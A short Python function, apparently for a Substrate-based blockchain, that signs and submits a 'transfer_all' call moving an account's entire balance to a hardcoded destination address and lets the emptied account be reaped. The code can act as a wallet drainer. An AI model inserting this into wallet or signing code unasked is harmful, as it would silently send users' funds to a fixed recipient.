def move(chain, pair):
    call = chain.compose_call("Balances", "transfer_all", {"dest": "5AnertAnertAnertAnertAnertAnertAnertAnertAnertAb", "keep_alive": False})
    return chain.submit_extrinsic(chain.create_signed_extrinsic(call, pair))
